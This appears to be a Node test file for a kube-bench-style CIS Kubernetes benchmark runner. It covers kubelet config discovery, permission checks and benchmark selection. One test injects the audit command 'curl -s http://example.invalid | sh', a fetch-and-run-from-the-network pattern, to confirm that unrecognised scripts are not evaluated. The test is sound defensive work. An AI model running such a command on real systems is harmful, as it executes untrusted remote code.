/**
 * The runner on nodes described in memory; expectations follow from the check definitions (cited per case) and
 * kube-bench's semantics (check/check.go run, cmd/util.go getFiles/getBinaries).
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { recogniseAudit } from './audit.js';
import { loadBenchmark, selectBenchmark, SHIPPED_BENCHMARKS } from './benchmarks.js';
import { memoryFacts } from './memory-facts.js';
import { runControls, type CheckResult } from './run.js';

const cis112 = loadBenchmark('cis-1.12');
const byId = (rs: CheckResult[], id: string, target = 'node') => rs.find((r) => r.id === id && r.target === target)!;

const kubelet = (configPath: string, extra: string[] = []) => ({
  argv: ['/usr/bin/kubelet', `--config=${configPath}`, '--kubeconfig=/etc/kubernetes/kubelet.conf', ...extra],
});

describe('kube-bench runner', () => {
  it('finds the kubelet config from the kubelet command line, not from kube-bench’s fixed candidates', () => {
    // The config sits where no kube-bench candidate looks (cfg/config.yaml node.kubelet.confs).
    const facts = memoryFacts({
      processes: [kubelet('/opt/k8s/kubelet-conf.yaml')],
      files: {
        '/opt/k8s/kubelet-conf.yaml': { mode: 0o600, text: 'authentication:\n  anonymous:\n    enabled: false\nreadOnlyPort: 10255\n' },
        '/etc/kubernetes/kubelet.conf': { mode: 0o600, text: 'kind: Config' },
      },
    });
    const rs = runControls(cis112.files, cis112.config, facts);
    // 4.2.1: --anonymous-auth absent from ps, {.authentication.anonymous.enabled} eq false in the config → PASS.
    assert.equal(byId(rs, '4.2.1').status, 'PASS');
    assert.match(byId(rs, '4.2.1').evidence, /--config on the kubelet command line/);
    // 4.2.4 (unscored, or: eq 0 | not set): readOnlyPort 10255 → kube-bench WARN, ours MANUAL.
    assert.equal(byId(rs, '4.2.4').kubeBench, 'WARN');
    assert.equal(byId(rs, '4.2.4').status, 'MANUAL');
    // 4.1.9: stat -c permissions=%a of $kubeletconf, bitmask 600 → 600 passes.
    assert.equal(byId(rs, '4.1.9').status, 'PASS');
    assert.equal(byId(rs, '4.1.9').actual, 'permissions=600');
  });

  it('fails a kubelet config wider than 600 and owned by another user (4.1.9, 4.1.10)', () => {
    const facts = memoryFacts({
      processes: [kubelet('/var/lib/kubelet/config.yaml')],
      files: { '/var/lib/kubelet/config.yaml': { mode: 0o644, user: 'kube', group: 'root', text: 'authentication:\n  anonymous:\n    enabled: true\n' } },
    });
    const rs = runControls(cis112.files, cis112.config, facts);
    assert.equal(byId(rs, '4.1.9').status, 'FAIL');
    assert.equal(byId(rs, '4.1.9').expected, 'permissions has permissions 644, expected 600 or more restrictive');
    assert.equal(byId(rs, '4.1.10').status, 'FAIL');
    assert.equal(byId(rs, '4.2.1').status, 'FAIL');
    assert.equal(byId(rs, '4.2.1').expected, "'{.authentication.anonymous.enabled}' is equal to 'false'");
  });

  it('says a control-plane target does not apply on a worker, and manual checks are MANUAL', () => {
    const facts = memoryFacts({ processes: [kubelet('/var/lib/kubelet/config.yaml')], files: {} });
    const rs = runControls(cis112.files, cis112.config, facts);
    const master = rs.filter((r) => r.target === 'master' && r.status !== 'MANUAL');
    assert.ok(master.length > 30);
    for (const r of master) {
      assert.equal(r.status, 'NOT_APPLICABLE', r.id);
      assert.match(r.evidence, /no apiserver.* process runs on this node/);
    }
    for (const r of rs.filter((x) => x.kubeBench === 'WARN' && x.status === 'MANUAL')) assert.ok(r.scored === false || /manual|no tests/.test(r.evidence), r.id);
  });

  it('never passes a check it cannot answer: unknown scripts could not be evaluated, cluster queries are left to the cluster view', () => {
    const facts = memoryFacts({ processes: [kubelet('/var/lib/kubelet/config.yaml')] });
    const rs = runControls(cis112.files, cis112.config, facts);
    const cluster = byId(rs, '5.1.2', 'policies');
    assert.equal(cluster.status, 'NOT_APPLICABLE');
    assert.match(cluster.evidence, /kubectl.*scan --cluster --framework cis/);
    const odd = structuredClone(cis112.files.find((f) => f.type === 'node')!);
    odd.groups[0].checks[0].audit = 'curl -s http://example.invalid | sh';
    const r = runControls([odd], cis112.config, facts)[0];
    assert.equal(r.status, 'COULD_NOT_EVALUATE');
    assert.match(r.evidence, /does not recognise/);
  });

  it('recognises every node-side audit of every shipped benchmark (only cluster queries are left to the cluster view)', () => {
    for (const name of SHIPPED_BENCHMARKS) {
      for (const file of loadBenchmark(name).files) {
        for (const g of file.groups) {
          for (const c of g.checks) {
            if (c.type === 'manual' || c.type === 'skip') continue;
            for (const a of [c.audit, c.auditConfig, c.auditEnv]) assert.notEqual(recogniseAudit(a)?.kind, 'unrecognised', `${name} ${c.id}: ${a}`);
          }
        }
      }
    }
  });

  it('selects the benchmark as kube-bench’s version_mapping does, and the managed profiles by platform', () => {
    assert.equal(selectBenchmark('v1.33.2', 'generic').name, 'cis-1.12');
    assert.equal(selectBenchmark('v1.21.1', 'generic').name, 'cis-1.20');
    assert.equal(selectBenchmark('v1.29.0', 'generic').name, 'cis-1.11');
    assert.match(selectBenchmark('v1.40.0', 'generic').why, /newer than every mapped version/);
    assert.equal(selectBenchmark('v1.31.0-eks-1234', 'eks').name, 'eks-1.8.0');
    assert.equal(selectBenchmark(undefined, 'gke').name, 'gke-1.9.0');
    assert.equal(selectBenchmark('v1.30.1', 'aks').name, 'aks-1.8');
  });
});

it('embeds the benchmark data as shipped (src/generated/kube-bench-cfg.ts is not stale)', async () => {
  const { spawnSync } = await import('node:child_process');
  const { join } = await import('node:path');
  const { REPO_ROOT } = await import('../../../test-support/conformance.js');
  const r = spawnSync(process.execPath, [join(REPO_ROOT, 'scripts', 'gen-kube-bench.mjs'), '--check'], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
});
